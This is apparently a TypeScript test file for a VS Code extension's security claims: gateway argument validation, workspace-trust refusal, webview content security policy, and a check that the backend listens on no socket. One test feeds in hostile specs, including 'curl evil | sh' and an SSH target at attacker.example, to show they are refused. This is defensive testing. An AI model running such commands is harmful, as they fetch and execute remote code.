import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { gatewayArgument } from '../../extension/gatewayArgument';
import { webviewHtml } from '../../extension/webviewHtml';
import { RawServer } from '../helpers/rawJsonRpcServer';

// Each test here proves a claim of SECURITY.md; the socket server's claims are proved in
// test/integration/socket/socket.test.ts, the backend's bad-input claims in jsonRpcInput.test.ts.

describe('SECURITY.md: remoteExec.openGateway with a {spec} argument', () => {
  test('is refused in an untrusted workspace, whatever the spec', () => {
    for (const spec of ['popen', 'ssh=attacker.example//python=python3', 'popen//cmd=curl evil | sh']) {
      const decision = gatewayArgument({ spec }, false);
      assert.equal(decision.kind, 'refused');
      assert.match((decision as { reason: string }).reason, /not trusted/);
    }
  });

  test('in a trusted workspace it needs the user to confirm that very spec', () => {
    const decision = gatewayArgument({ spec: 'ssh=build-host', name: 'build' }, true);
    assert.equal(decision.kind, 'confirm');
    if (decision.kind !== 'confirm') return;
    assert.equal(decision.spec, 'ssh=build-host');
    assert.match(decision.question, /"ssh=build-host"/);
    assert.match(decision.question, /starts a process/);
  });

  test('anything but {spec: one-line string, name?: string} is refused; no argument opens the picker', () => {
    for (const arg of [
      'popen',
      42,
      { spec: 7 },
      { spec: '' },
      { spec: 'popen\npopen' },
      { spec: 'x'.repeat(1001) },
      { spec: 'popen', name: {} },
    ]) {
      assert.equal(gatewayArgument(arg, true).kind, 'refused', JSON.stringify(arg));
    }
    assert.equal(gatewayArgument(undefined, false).kind, 'none');
  });
});

describe('SECURITY.md: what a webview may load', () => {
  const html = webviewHtml({ title: 't', cspSource: 'vscode-webview://abc', nonce: 'N0nce', scriptUri: 'vscode-webview://abc/x.js' });
  const csp = /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(html)?.[1] ?? '';

  test("the policy denies everything by default and runs only the nonce'd script", () => {
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /script-src 'nonce-N0nce'(;|$)/);
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/);
  });

  test('nothing may come from the network: no http(s) origin, no connect-src', () => {
    assert.doesNotMatch(csp, /https?:/);
    assert.doesNotMatch(csp, /connect-src|\*/);
  });
});

describe('SECURITY.md: the backend (server --stdio)', () => {
  let server: RawServer;
  before(async () => {
    server = new RawServer();
    await server.stillServes();
  });
  after(() => server.kill());

  test('listens on no socket: its only ways in are its stdio pipes', () => {
    const fds = fs.readdirSync(`/proc/${server.child.pid}/fd`).map((fd) => {
      try {
        return fs.readlinkSync(`/proc/${server.child.pid}/fd/${fd}`);
      } catch {
        return '';
      }
    });
    const inodes = new Set(fds.filter((l) => l.startsWith('socket:')).map((l) => /\[(\d+)\]/.exec(l)?.[1]));
    // Its stdio may be socket pairs; none of its sockets may be listening (TCP state 0A, unix __SO_ACCEPTCON).
    const table = (name: string) => fs.readFileSync(`/proc/${server.child.pid}/net/${name}`, 'utf8').trim().split('\n').slice(1);
    const tcp = ['tcp', 'tcp6']
      .flatMap(table)
      .map((l) => l.trim().split(/\s+/))
      .filter((c) => c[3] === '0A' && inodes.has(c[9]));
    const unix = table('unix')
      .map((l) => l.trim().split(/\s+/))
      .filter((c) => c[3] === '00010000' && inodes.has(c[6]));
    const listening = [...tcp, ...unix].map((c) => c.join(' '));
    assert.deepEqual(listening, [], 'no listening socket belongs to the backend');
  });
});
